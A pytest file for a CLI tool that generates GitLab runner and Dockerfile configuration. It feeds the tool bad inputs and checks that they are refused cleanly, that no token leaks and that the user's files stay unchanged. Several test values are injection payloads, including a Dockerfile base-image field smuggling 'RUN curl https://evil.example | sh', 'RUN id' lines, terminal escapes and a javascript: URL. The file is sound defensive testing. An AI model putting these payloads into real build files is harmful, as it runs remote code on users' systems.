"""Bad inputs around secrets, URLs and single-line fields (issue 19: 11, 12, token echo, 15, 20, 22, 23, 24).

One case is one line: the answers file, the environment, the command, the exit code and a phrase of the
sentence. Every case runs the real `dockwright` (python -m dockwright) in a small git project next to the
module's sandbox, with no terminal on stdin, and checks what holds for every bad input: no traceback, no raw
HTML, the user's files exactly as they were, and no token (the sandbox's, or any token-shaped value of the
case) in stdout or stderr.

Placeholders: {url} the sandbox, {token} its token, {web} a web server that is not GitLab, {tls_plain} the
sandbox's port spoken to with https://, {big} a 100 kB token, {file} a file of the project.
"""

from __future__ import annotations

import http.server
import os
import re
import shlex
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from dockwright.wizard.secret_text import TOKEN_RE, looks_like_token

OK = "gitlab:\n  url: '{url}'\n  project: demo/app\nrunner:\n  config_path: runner/config.toml\n"  # + runner keys
NO_URL = OK.replace("  url: '{url}'\n", "")


def with_(extra: str) -> str:
    """The sound answers file plus ``extra``: another top-level section."""
    return OK + extra


APPLY = "apply --answers dockwright.yml --yes --no-watch"
GENERATE = "generate --answers dockwright.yml --dry-run"
FAKE = "glpat-Fake0Token0For0Tests1"  # token-shaped, never valid anywhere

CASES = [
    # id                          answers file                                       env                                       command                                               exit phrase
    # 11: a token that cannot be one is refused before it reaches a header
    ("token-line-break",          OK,                                                {"GITLAB_TOKEN": "{token}\nx"},           APPLY,                                                2, "has a line break in it"),
    ("token-cr-in-middle",        OK,                                                {"GITLAB_TOKEN": "glpat-ab\rcdefgh12345"}, APPLY,                                               2, "has a line break in it"),
    ("token-not-latin1",          OK,                                                {"GITLAB_TOKEN": "{token}\u2019"},        APPLY,                                                2, "not plain ASCII"),
    ("token-latin1-accent",       OK,                                                {"GITLAB_TOKEN": "{token}\u00e9"},        APPLY,                                                2, "not plain ASCII"),
    ("token-space-inside",        OK,                                                {"GITLAB_TOKEN": "glpat-abc def12345678"}, APPLY,                                               2, "has a space in it"),
    ("token-env-line-break",      OK,                                                {"MY_TOKEN": "{token}\nx"},               APPLY + " --token-env MY_TOKEN",                      2, "from the MY_TOKEN environment variable (--token-env) has a line break"),
    ("token-100kB",               OK,                                                {"GITLAB_TOKEN": "{big}"},                APPLY,                                                2, "characters long"),
    # 12: credentials in a URL, wherever it comes from
    ("url-userinfo-answers",      OK.replace("{url}", "http://user:{token}@127.0.0.1:1"), {},                                  GENERATE,                                             2, "has a user name or password in it"),
    ("url-userinfo-apply",        OK.replace("{url}", "http://user:{token}@127.0.0.1:1"), {"GITLAB_TOKEN": "{token}"},         APPLY,                                                2, "has a user name or password in it"),
    ("url-userinfo-flag",         OK,                                                {"GITLAB_TOKEN": "{token}"},              APPLY + " --url http://oauth2:{token}@127.0.0.1:1",   2, "has a user name or password in it"),
    ("url-user-only-flag",        OK,                                                {"GITLAB_TOKEN": "{token}"},              APPLY + " --url http://alice@127.0.0.1:1",            2, "has a user name or password in it"),
    ("url-userinfo-gitlab-host",  NO_URL,                                            {"GITLAB_HOST": "http://u:{token}@127.0.0.1:1"}, APPLY,                                         2, "has a user name or password in it"),
    # token echo: an answers-file error never repeats a token; a token in dockerfile.env is warned about
    ("from-env-is-a-token",       with_("variables:\n  - {{key: API_KEY, from_env: " + FAKE + "}}\n"), {},                    GENERATE,                                             2, "looks like a token, not shown"),
    ("from-env-unprefixed-token", with_("variables:\n  - {{key: API_KEY, from_env: aB3dE5gH7jK9mN1pQ3sT5vX7}}\n"), {},          GENERATE,                                             2, "looks like a token, not shown"),
    ("key-is-a-token",            with_("variables:\n  - {{key: " + FAKE + "}}\n"),  {},                                       GENERATE,                                             2, "looks like a token, not shown"),
    ("token-as-executor",         with_("executor: " + FAKE + "\n"),                 {},                                       GENERATE,                                             2, "looks like a token, not shown"),
    ("token-in-dockerfile-env",   with_("dockerfile: {{env: {{API_TOKEN: " + FAKE + "}}}}\n"), {},                             APPLY,                                                2, "dockerfile.env API_TOKEN looks like a token or password"),
    # 15: control characters in single-line fields would add lines to the files they are written into
    ("base-image-newline",        with_("dockerfile: {{base_image: \"x\\nRUN curl https://evil.example | sh\"}}\n"), {},       GENERATE,                                             2, "`dockerfile.base_image` has a line break"),
    ("workdir-newline",           with_("dockerfile: {{workdir: \"/app\\nRUN id\"}}\n"), {},                                   GENERATE,                                             2, "`dockerfile.workdir` has a line break"),
    ("env-value-newline",         with_("dockerfile: {{env: {{A: \"1\\nRUN id\"}}}}\n"), {},                                   GENERATE,                                             2, "`dockerfile.env.A` has a line break"),
    ("command-newline",           with_("dockerfile: {{command: [\"python\\nRUN id\"]}}\n"), {},                               GENERATE,                                             2, "`dockerfile.command[0]` has a line break"),
    ("tag-newline",               OK + "  tags: [\"docker\\n[[runners]]\"]\n",       {},                                       GENERATE,                                             2, "`runner.tags[0]` has a line break"),
    ("description-newline",       OK + "  description: \"d\\nurl = 'x'\"\n",         {},                                       GENERATE,                                             2, "`runner.description` has a line break"),
    ("description-escape-char",   OK + "  description: \"d\\e[31m\"\n",              {},                                       GENERATE,                                             2, "control character U+001B"),
    ("description-bidi",          OK + "  description: \"d\\u202Ex\"\n",             {},                                       GENERATE,                                             2, "text-direction character U+202E"),
    ("stage-newline",             with_("pipeline: {{stages: [\"build\\nx: y\", release]}}\n"), {},                            GENERATE,                                             2, "`pipeline.stages[0]` has a line break"),
    ("branch-newline",            with_("git: {{branch: \"main\\nx\"}}\n"),          {},                                       GENERATE,                                             2, "`git.branch` has a line break"),
    ("commit-message-escape",     with_("git: {{commit_message: \"Add CI\\e[2J\"}}\n"), {},                                    GENERATE,                                             2, "control character U+001B"),
    ("project-newline",           OK.replace("demo/app", "\"demo/app\\nx\""),        {},                                       GENERATE,                                             2, "`gitlab.project` has a line break"),
    # 20: no terminal for the full-screen wizard
    ("wizard-without-terminal",   OK,                                                {},                                       "",                                                   2, "needs a terminal"),
    ("plain-without-terminal",    OK,                                                {},                                       "--plain",                                            2, "--plain asks its questions in a terminal"),
    # 22: loose validation
    ("empty-description",         OK + "  description: ''\n",                        {},                                       GENERATE,                                             2, "`runner.description` is empty"),
    ("empty-docker-image",        OK + "  docker_image: ''\n",                       {},                                       GENERATE,                                             2, "`runner.docker_image` is empty"),
    ("empty-base-image",          with_("dockerfile: {{base_image: ''}}\n"),         {},                                       GENERATE,                                             2, "`dockerfile.base_image` is empty"),
    ("empty-environment-scope",   with_("variables:\n  - {{key: A, environment_scope: ''}}\n"), {},                            GENERATE,                                             2, "`variables[0].environment_scope` is empty"),
    ("runner-timeout-negative",   OK,                                                {},                                       APPLY + " --runner-timeout -1",                       2, "is not a number of seconds"),
    ("runner-timeout-nan",        OK,                                                {},                                       APPLY + " --runner-timeout nan",                      2, "is not a number of seconds"),
    ("token-env-not-a-name",      OK,                                                {},                                       APPLY + " --token-env NOT=VALID",                     2, "is not one (letters, digits and _"),
    ("url-space",                 OK,                                                {"GITLAB_TOKEN": "{token}"},              APPLY + " --url 'http://127.0.0.1 :80'",              2, "has a space in it"),
    ("url-tab",                   OK,                                                {"GITLAB_TOKEN": "{token}"},              APPLY + " --url 'http://127.0.0.1\t:80'",             2, "has a tab in it"),
    ("url-javascript",            OK,                                                {"GITLAB_TOKEN": "{token}"},              APPLY + " --url javascript:alert(1)",                 2, "does not start with https://"),
    ("url-backslashes",           OK,                                                {"GITLAB_TOKEN": "{token}"},              APPLY + " --url 'http:\\\\gitlab.example.com'",       2, "has a backslash in it"),
    ("url-fullwidth-port",        OK,                                                {"GITLAB_TOKEN": "{token}"},              APPLY + " --url http://127.0.0.1:\uff18\uff10",       2, "port that is not a number written with the digits 0-9"),
    ("url-unclosed-ipv6",         OK,                                                {"GITLAB_TOKEN": "{token}"},              APPLY + " --url http://[::1",                         2, "needs its closing ]"),
    ("url-port-too-big",          OK,                                                {"GITLAB_TOKEN": "{token}"},              APPLY + " --url http://127.0.0.1:99999",              2, "ports go from 1 to 65535"),
    ("url-api-path",              OK,                                                {"GITLAB_TOKEN": "{token}"},              APPLY + " --url {url}/api/v4",                        2, "ends with GitLab's API path"),
    ("url-ftp-in-answers",        OK.replace("{url}", "ftp://127.0.0.1"),            {},                                       GENERATE,                                             2, "starts with ftp://"),
    ("sandbox-job-seconds",       OK,                                                {},                                       "sandbox --job-seconds -5",                           2, "is not a number of seconds"),
    ("sandbox-port",              OK,                                                {},                                       "sandbox --port 70000",                               2, "is not a port"),
    ("sandbox-data-dir-file",     OK,                                                {},                                       "sandbox --data-dir {file}",                          2, "is a file"),
    ("sandbox-data-dir-in-file",  OK,                                                {},                                       "sandbox --data-dir {file}/state",                    2, "is a file"),
    # 23: the right sentence for what really happened
    ("url-not-gitlab",            OK,                                                {"GITLAB_TOKEN": "{token}"},              APPLY + " --url {web}",                               2, "does not answer like GitLab's API"),
    ("https-to-plain-http",       OK,                                                {"GITLAB_TOKEN": "{token}"},              APPLY + " --url {tls_plain}",                         5, "answered in plain HTTP"),
    # 24: an answers file without answers is said to be one
    ("answers-empty",             "",                                                {},                                       GENERATE,                                             0, "holds no answers"),
    ("answers-comments-only",     "# nothing yet\n# still nothing\n",                {},                                       GENERATE,                                             0, "holds no answers"),
    ("answers-null",              "null\n",                                          {},                                       GENERATE,                                             0, "holds no answers"),
]

assert len({c[0] for c in CASES}) == len(CASES), "case ids are unique"


class _NotGitLab(http.server.BaseHTTPRequestHandler):
    """A web server that is not GitLab: a web page for every path (404 under /api like many servers)."""

    def _page(self) -> None:
        body = (b"<!DOCTYPE html>\n<html>\n<head><title>Not here</title></head>\n<body>\n<h1>404</h1>\n"
                b"<p>Nothing matches the given URI.</p>\n</body>\n</html>\n")
        self.send_response(404)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_PUT = _page

    def log_message(self, *args) -> None:
        pass


@pytest.fixture(scope="module")
def web():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _NotGitLab)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def _project(root: Path, answers: str) -> Path:
    root.mkdir()
    (root / "app.py").write_text("print('hi')\n")
    (root / "requirements.txt").write_text("flask==3.0.3\n")
    (root / "dockwright.yml").write_text(answers, encoding="utf-8")
    for args in (["init", "-q", "-b", "main"], ["add", "app.py", "requirements.txt"], ["commit", "-q", "-m", "app"]):
        subprocess.run(["git", *args], cwd=root, check=True, capture_output=True)
    return root


def _snapshot(root: Path) -> dict[str, bytes]:
    files = {str(p.relative_to(root)): p.read_bytes() for p in root.rglob("*")
             if p.is_file() and ".git" not in p.relative_to(root).parts}
    head = subprocess.run(["git", "rev-parse", "HEAD"], cwd=root, capture_output=True, text=True).stdout
    files["<HEAD>"] = head.encode()
    return files


@pytest.mark.parametrize(("case", "answers", "env", "command", "code", "phrase"), CASES, ids=[c[0] for c in CASES])
def test_bad_input(sb, web, tmp_path, case, answers, env, command, code, phrase):
    facts = {"url": sb.url, "token": sb.token, "web": web, "tls_plain": sb.url.replace("http://", "https://"),
             "big": "glpat-" + "a" * 100_000, "file": str(tmp_path / "proj" / "app.py")}
    answers = answers.format(**facts)
    project = _project(tmp_path / "proj", answers)
    before = _snapshot(project)
    child_env = {k: v for k, v in os.environ.items() if k not in ("GITLAB_TOKEN", "GITLAB_HOST", "CI_SERVER_URL")}
    child_env.update({k: v.format(**facts) for k, v in env.items()})
    argv = [a.format(**facts) for a in shlex.split(command)]
    proc = subprocess.run([sys.executable, "-m", "dockwright", *argv], cwd=project, env=child_env,
                          stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=90)
    said = proc.stdout + proc.stderr
    assert proc.returncode == code, said
    assert phrase in " ".join(said.split()), said
    assert "Traceback" not in said and "<html" not in said.lower(), said
    assert _snapshot(project) == before, "the user's files changed"
    given = answers + " " + " ".join(env.values()) + " " + command
    secrets = {sb.token, *TOKEN_RE.findall(given), *(w for w in re.findall(r"[\w.+/=-]{20,}", given) if looks_like_token(w))}
    for secret in secrets:
        assert secret not in said, f"a token reached the output: {said}"
